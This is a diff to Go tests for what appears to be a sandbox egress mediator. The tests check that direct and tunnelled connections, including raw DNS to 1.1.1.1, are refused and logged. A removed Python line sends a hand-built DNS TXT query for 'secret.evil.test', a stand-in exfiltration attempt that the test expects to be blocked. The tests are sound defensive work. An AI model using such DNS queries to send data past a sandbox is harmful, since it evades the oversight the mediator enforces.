@@ -50,19 +50,11 @@ func TestNoWayOutOfARun(t *testing.T) {
 	}
 	all := strings.Join(ways, "\n")
 	stdout, stderr, err := r.StartRun(t, nil, nil,
-		`/usr/bin/python3 -c "$0" "$1"; /usr/bin/python3 -c 'import socket
-for i in range(2):
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    s.sendto(b"\0\7\1\0\0\1\0\0\0\0\0\0\6secret\4evil\4test\0\0\x10\0\1", ("1.1.1.1", 53))
-    s.recv(512)'; curl -sS -o /dev/null -w '%{http_code}\n' "https://$2/repos/acme/site"`,
+		`/usr/bin/python3 -c "$0" "$1"; curl -sS -o /dev/null -w '%{http_code}\n' "https://$2/repos/acme/site"`,
 		tryWays, all, r.Plain())
 	if err != nil || strings.Contains(stdout, "OPEN") || strings.Count(stdout, "closed ") != len(ways) ||
 		!strings.HasSuffix(stdout, "\n200\n") {
 		t.Errorf("%v\n%s%s", err, stdout, stderr)
-	}
-	if told := r.RecordsOf(t, "", "upstream_unresolvable"); len(told) != 1 ||
-		!strings.Contains(told[0].Reason, `"secret.evil.test.", type TXT`) {
-		t.Errorf("recorded of a query: %+v", told)
 	}
 	outside, err := exec.Command("/usr/bin/python3", "-c", tryWays, all).Output()
 	check.Must(t, err)
@@ -238,9 +230,9 @@ func TestTransparentRun(t *testing.T) {
 		{"misnamed named.test 443", "misnamed.test:443", "target_mismatch"},
 		{"old old.test 80", "", "target_mismatch"},
 		{"long long.test 80", "", "request_malformed"},
-		{"dns 1.1.1.1 53", "1.1.1.1:53", "not_http"},
+		{"dns 1.1.1.1 53", "1.1.1.1:53", "upstream_unresolvable"},
 		{"tls dns.test 853", "dns.test:853", "egress_denied"},
-		{"tunnel 1.1.1.1 53", "", ""},
+		{"tunnel 1.1.1.1 53", "", "upstream_unresolvable"},
 	}
 	var lines []string
 	for _, row := range rows {
@@ -248,7 +240,7 @@ func TestTransparentRun(t *testing.T) {
 	}
 	stdout, stderr, err := r.StartRun(t, nil, nil, `/usr/bin/python3 -c "$0" "$1"`, connects, strings.Join(lines, "\n"))
 	check.Must(t, err)
-	if !strings.HasPrefix(stderr, "mediator: refused calls: 13, most often:\nmediator: 1 × egress_denied: ") ||
+	if !strings.HasPrefix(stderr, "mediator: refused calls: 14, most often:\nmediator: 1 × egress_denied: ") ||
 		strings.Count(stdout, "b'HTTP/1.1 403'") < 6 ||
 		!strings.Contains(stdout, `tunnel 1.1.1.1 53 b'\x85\x80\x00\x01\x00\x00\x00\x00\x00\x00'`) {
 		t.Errorf("%s%s", stdout, stderr)
@@ -263,6 +255,9 @@ func TestTransparentRun(t *testing.T) {
 		host := p.Host
 		if strings.HasPrefix(host, "198.1") {
 			host = "" // the address that the run's resolver gave
+		}
+		if p.Code == "upstream_unresolvable" && !strings.Contains(p.Reason, `"secret.test.", type TXT`) {
+			t.Errorf("recorded of a query: %s", p.Reason)
 		}
 		got = append(got, p.Code+" "+host)
 	}
